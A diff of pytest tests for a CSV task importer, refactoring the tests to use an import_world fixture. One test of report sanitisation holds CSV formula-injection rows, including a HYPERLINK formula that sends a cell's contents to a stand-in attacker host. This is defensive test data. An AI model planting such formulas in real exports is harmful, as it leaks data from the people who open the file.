@@ -5,13 +5,12 @@ import httpx
 import pytest
 
 from db.engine import SessionFactory
-from db.models import ImportStatus, TaskStatus, User
+from db.models import ImportStatus, TaskStatus
 from importer.runner import ImportRunner
 from taskql.settings import Settings
-from tests.conftest import UserFactory
 from tests.importing import (
     HEADER,
-    build_world,
+    World,
     download_report,
     error_rows,
     job_row,
@@ -57,15 +56,13 @@ WHOLE_FILE_FAILURES = {
 
 @pytest.mark.parametrize("case", list(WHOLE_FILE_FAILURES))
 async def test_whole_file_failures(
+    import_world: World,
     case: str,
     client: httpx.AsyncClient,
     session_factory: SessionFactory,
     settings: Settings,
-    admin: User,
     admin_token: str,
-    make_user: UserFactory,
 ) -> None:
-    await build_world(session_factory, admin, make_user)
     content, message = WHOLE_FILE_FAILURES[case]
     job_id = await upload_job(client, content, token=admin_token)
     await run_queue(session_factory, settings)
@@ -81,14 +78,12 @@ async def test_whole_file_failures(
 
 
 async def test_a_failure_late_in_a_large_file_inserts_nothing(
+    import_world: World,
     client: httpx.AsyncClient,
     session_factory: SessionFactory,
     settings: Settings,
-    admin: User,
     admin_token: str,
-    make_user: UserFactory,
 ) -> None:
-    await build_world(session_factory, admin, make_user)
     content = (f"{HEADER}\n" + GOOD * 1000).encode() + b"1,\xff\xfe,x,Done,\n"
     job_id = await upload_job(client, content, token=admin_token)
     small_batches = settings.model_copy(update={"import_batch_size": 50})
@@ -111,14 +106,12 @@ async def test_header_only_succeeds_with_nothing_to_do(
 
 
 async def test_bom_crlf_quoted_newlines_and_a_loose_header(
+    import_world: World,
     client: httpx.AsyncClient,
     session_factory: SessionFactory,
     settings: Settings,
-    admin: User,
     admin_token: str,
-    make_user: UserFactory,
 ) -> None:
-    await build_world(session_factory, admin, make_user)
     text = (
         " Assigned To ,STATUS,Title,Notes,Project ID,description\r\n"
         "2,in progress,First,n1,1,plain\r\n"
@@ -145,24 +138,22 @@ async def test_bom_crlf_quoted_newlines_and_a_loose_header(
 
 
 async def test_every_reason_is_reported_for_every_bad_row(
+    import_world: World,
     client: httpx.AsyncClient,
     session_factory: SessionFactory,
     settings: Settings,
-    admin: User,
     admin_token: str,
-    make_user: UserFactory,
 ) -> None:
-    world = await build_world(session_factory, admin, make_user)
     long_title = "T" * 256
     rows = [
         f"abc,,{'d' * 5001},Started,xyz",
-        f"1,{long_title},ok,,{world.inactive_member_id}",
-        f"1,Outsider,ok,Done,{world.outsider_id}",
+        f"1,{long_title},ok,,{import_world.inactive_member_id}",
+        f"1,Outsider,ok,Done,{import_world.outsider_id}",
         "7,Lost,ok,Done,",
-        f"7,Lost too,ok,pending,{world.member_id}",
+        f"7,Lost too,ok,pending,{import_world.member_id}",
         "1,Short row,Pending",
         "0,Zero,ok,Done,99999999999",
-        f"1,Good one,ok,DONE,{world.member_id}",
+        f"1,Good one,ok,DONE,{import_world.member_id}",
     ]
     job_id = await upload_job(client, "\n".join([HEADER, *rows]).encode(), token=admin_token)
     await run_queue(session_factory, settings)
@@ -172,8 +163,8 @@ async def test_every_reason_is_reported_for_every_bad_row(
         'characters, the limit is 5000; status "Started" is not one of Pending, In Progress or '
         'Done; assigned_to "xyz" is not a valid user id',
         3: "title has 256 characters, the limit is 255; status is required (Pending, In Progress"
-        f" or Done); user {world.inactive_member_id} (assigned_to) is deactivated",
-        4: f"user {world.outsider_id} (assigned_to) is not a member of project 1",
+        f" or Done); user {import_world.inactive_member_id} (assigned_to) is deactivated",
+        4: f"user {import_world.outsider_id} (assigned_to) is not a member of project 1",
         5: "project 7 does not exist",
         6: "project 7 does not exist",
         7: "the row has 3 fields, the header has 5",
@@ -183,14 +174,12 @@ async def test_every_reason_is_reported_for_every_bad_row(
 
 
 async def test_a_five_megabyte_field_fails_its_row_only(
+    import_world: World,
     client: httpx.AsyncClient,
     session_factory: SessionFactory,
     settings: Settings,
-    admin: User,
     admin_token: str,
-    make_user: UserFactory,
 ) -> None:
-    await build_world(session_factory, admin, make_user)
     huge = "x" * (5 * 1024 * 1024)
     content = f'{HEADER}\n{GOOD}1,Huge,"{huge}",Done,\n{GOOD}'.encode()
     job_id = await upload_job(client, content, token=admin_token)
@@ -203,14 +192,12 @@ async def test_a_five_megabyte_field_fails_its_row_only(
 
 
 async def test_formula_cells_are_neutralised_in_the_report(
+    import_world: World,
     client: httpx.AsyncClient,
     session_factory: SessionFactory,
     settings: Settings,
-    admin: User,
     admin_token: str,
-    make_user: UserFactory,
 ) -> None:
-    await build_world(session_factory, admin, make_user)
     rows = [
         '-1,=HYPERLINK("http://evil.example/?x="&A1),@SUM(A1:A9),+cmd,\t9',
         '1,"\rcarriage",=1+1,Pending,999',
